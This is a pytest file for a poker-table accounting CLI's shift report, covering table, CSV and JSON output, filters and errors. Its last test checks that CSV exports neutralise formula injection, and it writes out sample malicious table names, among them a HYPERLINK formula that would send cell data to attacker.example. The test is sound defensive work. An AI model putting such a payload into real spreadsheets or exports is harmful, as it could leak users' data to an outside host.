"""``pokertable report shift`` (issue 19, items 3 and 5; docs/cli.md): the shifts' accounts as a table, CSV or JSON on
standard output, the count on standard error; shifts chosen by table and by the time they opened."""

from __future__ import annotations

import csv
import io
import json
import random
from pathlib import Path

import pytest

from domain.banked.thb import STANDARD_LIMITS, ThbSettings
from service.app.application import PokerTables
from service.app.commands import CloseShift, OpenShift, OpenTable, RecordDrop
from service.cli.main import main
from service.store.persistence import environment
from tests.support.app_play import PIT, Ids, dealer, play_banked_hand, start_banked_hand
from tests.support.app_tables import banked_table


def _store(tmp_path: Path) -> str:
    """A store with two shifts at "THB 1" (the second flagged: chips missing) and one open at "THB 2"."""
    url = f"sqlite:///{tmp_path / 'tables.db'}"
    app = PokerTables(env=environment(url))
    ids = Ids("report")
    try:
        for table in ("THB 1", "THB 2"):
            app.handle(OpenTable(ids(), table, ThbSettings(STANDARD_LIMITS[5])))
            app.handle(OpenShift(ids(), table, {1: 10_000}), PIT)
        start_banked_hand(app, "THB 1", ids, {1: 10, 2: 20})
        play_banked_hand(app, "THB 1", random.Random(4), ids, approve=True)
        bank = banked_table(app, "THB 1").bank_result
        app.handle(RecordDrop(ids(), "THB 1", 500), PIT)
        app.handle(CloseShift(ids(), "THB 1", {1: 10_000 + bank}), dealer("THB 1"))
        app.handle(OpenShift(ids(), "THB 1", {1: 10_000 + bank}), PIT)
        app.handle(CloseShift(ids(), "THB 1", {1: 5_000 + bank}), PIT)  # 5,000 gone, no hand played
    finally:
        app.close()
    return url


def test_report_shift_as_a_table_csv_and_json(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    url = _store(tmp_path)
    assert main(["--tz", "UTC", "report", "shift", "--db", url]) == 0
    out, err = capsys.readouterr()
    lines = out.splitlines()
    assert lines[0].split()[:3] == ["table", "shift", "game"] and len(lines) == 4 and err == "3 shift(s) found\n"
    assert lines[2].rstrip().endswith("OUTSIDE BAND") and "OUTSIDE BAND" not in lines[1]
    assert main(["report", "shift", "--table", "THB 1", "--format", "csv", "--db", url]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert [(r["shift"], r["state"], r["win"], r["flagged"]) for r in rows] == [
        ("1", "closed", rows[0]["win"], ""), ("2", "closed", "-5000", "OUTSIDE BAND")]
    assert float(rows[0]["hold_pct"]) == pytest.approx(100 * int(rows[0]["win"]) / 500)
    assert main(["report", "shift", "--table", "THB 2", "--format", "json", "--db", url]) == 0
    shifts = json.loads(capsys.readouterr().out)
    assert [(s["table"], s["open"], s["win"], s["opener_value"]) for s in shifts] == [("THB 2", True, None, 10_000)]


def test_report_shift_chooses_by_time_and_refuses_an_unknown_table(capsys: pytest.CaptureFixture[str],
                                                                   tmp_path: Path) -> None:
    url = _store(tmp_path)
    assert main(["report", "shift", "--from", "2999-01-01 00:00", "--db", url]) == 0
    out, err = capsys.readouterr()
    assert out.splitlines()[1:] == [] and err == "0 shift(s) found\n"
    assert main(["report", "shift", "--table", "Nowhere", "--db", url]) == 1
    out, err = capsys.readouterr()
    assert out == "" and "pokertable report:" in err and "Nowhere" in err
    assert main(["report", "shift", "--from", "yesterday", "--db", url]) == 2


def test_a_table_s_name_never_runs_as_a_formula_in_the_csv(capsys: pytest.CaptureFixture[str],
                                                            tmp_path: Path) -> None:
    """Attack (issue 34, "also found"): a table opened as ``=HYPERLINK(…)`` or ``@SUM(…)`` is a text in the CSV a
    spreadsheet opens, written with a leading apostrophe; the figures stay numbers (a negative win too)."""
    url = f"sqlite:///{tmp_path / 'tables.db'}"
    app = PokerTables(env=environment(url))
    ids = Ids("formula")
    names = ('=HYPERLINK("http://attacker.example/?"&A1,"open")', "@SUM(A1:A9)", "+1+1")
    try:
        for table in names:
            app.handle(OpenTable(ids(), table, ThbSettings(STANDARD_LIMITS[5])))
            app.handle(OpenShift(ids(), table, {1: 10_000}), PIT)
            app.handle(CloseShift(ids(), table, {1: 9_000}), PIT)  # a win of -1,000
    finally:
        app.close()
    assert main(["report", "shift", "--format", "csv", "--db", url]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert sorted(r["table"] for r in rows) == sorted("'" + name for name in names)
    assert {r["win"] for r in rows} == {"-1000"}
